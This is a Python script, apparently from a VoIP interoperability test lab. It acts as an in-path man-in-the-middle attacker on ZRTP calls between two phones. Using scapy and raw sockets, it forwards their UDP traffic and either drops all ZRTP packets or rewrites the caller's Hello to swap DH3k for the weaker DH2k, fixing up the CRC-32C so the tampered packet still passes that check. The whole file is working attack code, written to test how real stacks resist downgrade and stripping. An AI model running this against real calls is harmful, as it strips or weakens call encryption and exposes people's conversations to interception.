#!/usr/bin/python3
"""An in-path attacker on ZRTP, for the interop lab (make_attack_zrtp.sh): run in the middle
namespace with IP forwarding OFF, it forwards every IPv4 UDP datagram between the two phones
itself (they are routed through it) and tampers with their ZRTP on the way. Not part of zaudit;
its only job is to make real stacks face a real attack, so that zaudit is judged on what the
stacks then do.

usage: zrtp_mitm.py MODE IFACE_A IFACE_B CALLER_IP CALLEE_IP LOG
MODE:
  strip           drop every ZRTP packet (the phones never see each other's Hello)
  hello-downgrade in the caller's Hello, replace the key agreement type DH3k by DH2k (same length,
                  a weaker group) and recompute the packet's CRC-32C: the message no longer
                  matches the caller's a=zrtp-hash nor its own MAC
Everything else (SIP goes to the proxy, not through here; RTP, STUN, RTCP) passes unchanged.
"""
import socket
import sys

from scapy.all import IP, UDP, Ether, get_if_hwaddr, sniff  # Debian's python3-scapy

ZRTP_MAGIC = b"ZRTP"


def crc32c(data: bytes) -> int:
    """CRC-32C (Castagnoli, reflected polynomial 0x82F63B78), as RFC 6189 section 5 asks."""
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def zrtp_type(payload: bytes) -> bytes:
    """The 8-byte message type block of a ZRTP packet, or b'' for anything else."""
    if len(payload) < 28 or payload[0] != 0x10 or payload[4:8] != ZRTP_MAGIC:
        return b""
    if payload[12:14] != b"\x50\x5a":  # preamble 0x505a
        return b""
    return payload[16:24]


def with_crc(body: bytes) -> bytes:
    # Stored as the SCTP CRC is (RFC 3309): least significant byte first, as bzrtp, ZRTPCPP and
    # tshark have it.
    return body + crc32c(body).to_bytes(4, "little")


def downgrade_hello(payload: bytes) -> bytes:
    """DH3k -> DH2k in the Hello's key agreement list (RFC 6189 section 5.2), CRC recomputed."""
    body = bytearray(payload[:-4])
    # Hello: header 12, preamble/length 4, type 8, version 4, client id 16, H3 32, ZID 12, then
    # one word of flags and counts (hc, cc, ac, kc, sc), then the algorithm lists.
    counts = 12 + 4 + 8 + 4 + 16 + 32 + 12
    word = int.from_bytes(body[counts:counts + 4], "big")
    hc, cc, ac, kc = (word >> 16) & 0xF, (word >> 12) & 0xF, (word >> 8) & 0xF, (word >> 4) & 0xF
    first_kc = counts + 4 + 4 * (hc + cc + ac)
    changed = False
    for i in range(kc):
        at = first_kc + 4 * i
        if body[at:at + 4] == b"DH3k":
            body[at:at + 4] = b"DH2k"
            changed = True
    if not changed:
        return payload
    return with_crc(bytes(body))


def main():
    mode, iface_a, iface_b, caller, callee, log_path = sys.argv[1:]
    edits = {"hello-downgrade": downgrade_hello}
    if mode != "strip" and mode not in edits:
        sys.exit(f"zrtp_mitm: unknown mode {mode}")
    own_macs = {get_if_hwaddr(iface_a), get_if_hwaddr(iface_b)}
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    log = open(log_path, "w", buffering=1)

    def handle(frame):
        if Ether not in frame or frame[Ether].src in own_macs or IP not in frame or UDP not in frame:
            return  # our own transmissions, or not the phones' UDP
        ip = frame[IP]
        if {ip.src, ip.dst} != {caller, callee}:
            return  # SIP to and from the proxy on this host: the kernel's business
        payload = bytes(frame[UDP].payload)
        kind = zrtp_type(payload)
        if kind:
            if mode == "strip":
                log.write(f"dropped {kind.decode(errors='replace').strip()} {ip.src} -> {ip.dst}\n")
                return
            if mode in edits and kind == b"Hello   " and ip.src == caller:
                tampered = edits[mode](payload)
                if tampered != payload:
                    log.write(f"{mode}: rewrote Hello {ip.src} -> {ip.dst}\n")
                    ip[UDP].remove_payload()
                    ip[UDP].add_payload(tampered)
                    del ip[UDP].chksum
                    del ip[UDP].len
                    del ip.len
                    del ip.chksum
        out.sendto(bytes(ip), (ip.dst, 0))

    sniff(iface=[iface_a, iface_b], filter="udp", prn=handle, store=False)


if __name__ == "__main__":
    main()
